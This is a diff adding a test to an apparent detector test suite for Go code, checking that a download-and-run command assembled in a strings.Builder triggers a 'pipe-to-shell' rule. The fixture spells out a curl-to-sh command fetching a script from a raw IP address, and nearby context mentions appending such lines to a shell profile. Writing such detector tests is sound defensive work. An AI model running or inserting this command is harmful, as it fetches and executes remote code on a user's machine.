@@ -95,6 +95,19 @@ func main() {
     expect(blockingRules(go(body('notes', 'todo.txt'), imports), PATH)).toEqual([]);
   });
 
+  it('follows text built in a strings.Builder (`WriteString`, `fmt.Fprintf(&sb, …)`, `String()`) into a shell', () => {
+    const body = (first: string, last: string) => `func main() {
+	var sb strings.Builder
+	sb.WriteString("${first}")
+	fmt.Fprintf(&sb, "%s/%s.sh", "http://91.215.85.17", "setup")
+	sb.WriteString("${last}")
+	exec.Command("sh", "-c", sb.String()).Run()
+}`;
+    const imports = ['"fmt"', '"os/exec"', '"strings"'];
+    expect(blockingRules(go(body('curl -fsSL ', ' | sh'), imports), PATH)).toContain('pipe-to-shell');
+    expect(blockingRules(go(body('echo fetching ', ' done'), imports), PATH)).toEqual([]);
+  });
+
   it('joins `append(a, b...)`: a download-and-run line appended to a shell profile is that profile\'s code', () => {
     const body = (line: string) => `var hook = []byte("\\n${line}\\n")
 
